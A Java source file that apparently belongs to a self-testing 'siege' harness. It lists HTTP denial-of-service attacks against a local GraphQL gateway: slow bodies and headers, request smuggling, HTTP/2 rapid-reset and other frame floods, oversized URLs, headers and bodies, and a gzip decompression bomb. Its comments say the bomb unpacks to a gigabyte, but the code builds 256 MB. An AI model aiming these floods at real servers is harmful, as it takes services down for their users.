package io.lancang.standalone.siege.attack.http;

import static io.lancang.standalone.siege.wire.HttpRequests.bytes;

import io.lancang.standalone.siege.attack.Attack;
import io.lancang.standalone.siege.attack.Flood;
import io.lancang.standalone.siege.attack.Target.Gate;
import io.lancang.standalone.siege.wire.HttpRequests;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.List;
import java.util.Map;
import java.util.zip.GZIPOutputStream;

/** The family's list, and those attacks that are whole requests. */
public final class HttpAttacks {
    private static final byte[] BOMB = bomb();

    private HttpAttacks() {}

    public static List<Attack> all() {
        return List.of(
                new SlowBodies("slow-bodies", Gate.GATEWAY),
                new SlowBodies("service-slow-bodies", Gate.CORRIDOR),
                new SlowHeads(),
                new IdleConnections(),
                new LeavingClients(),
                new UnreadAnswers("unread-answers", Gate.GATEWAY),
                new UnreadAnswers("service-unread-answers", Gate.CORRIDOR),
                new Pipelining(),
                new TinyChunks(),
                new Smuggling(),
                new Http2Frames(
                        "rapid-reset",
                        "HTTP/2 streams that are reset as soon as they are opened",
                        Http2Frames.Flood.OF_RESETS),
                new Http2Frames("endless-headers", "HTTP/2 headers that go on and on", Http2Frames.Flood.OF_HEADERS),
                new Http2Frames("settings", "HTTP/2 settings again and again", Http2Frames.Flood.OF_SETTINGS),
                new Http2Frames("pings", "HTTP/2 pings without end", Http2Frames.Flood.OF_PINGS),
                new Flood(
                        "long-url",
                        "a query of 200 KB in the URL",
                        Gate.GATEWAY,
                        8,
                        2_000,
                        _ -> HttpRequests.get("/graphql?query=%7B" + "a".repeat(200_000) + "%7D")),
                new Flood(
                        "large-heads",
                        "2,000 headers of 100 bytes",
                        Gate.GATEWAY,
                        8,
                        2_000,
                        _ -> bytes("POST /graphql HTTP/1.1\r\nHost: 127.0.0.1\r\n"
                                + ("X-Filler: " + "f".repeat(90) + "\r\n").repeat(2_000)
                                + "Content-Length: 0\r\n\r\n")),
                new Flood(
                        "large-bodies",
                        "bodies of 10 MB",
                        Gate.GATEWAY,
                        8,
                        200,
                        _ -> HttpRequests.post("{\"query\":\"" + "a".repeat(10_000_000) + "\"}")),
                new Flood(
                        "gzip-bomb",
                        "a body of 1 MB that unpacks to 1 GB",
                        Gate.GATEWAY,
                        4,
                        100,
                        _ -> HttpRequests.post(
                                "/graphql",
                                Map.of("Content-Type", "application/json", "Content-Encoding", "gzip"),
                                BOMB)));
    }

    /** A gigabyte of spaces, packed. */
    static byte[] bomb() {
        ByteArrayOutputStream packed = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(packed)) {
            byte[] spaces = " ".repeat(1 << 20).getBytes(java.nio.charset.StandardCharsets.US_ASCII);
            for (int megabyte = 0; megabyte < 256; megabyte++) {
                out.write(spaces);
            }
        } catch (IOException impossible) {
            throw new UncheckedIOException(impossible);
        }
        return packed.toByteArray();
    }
}
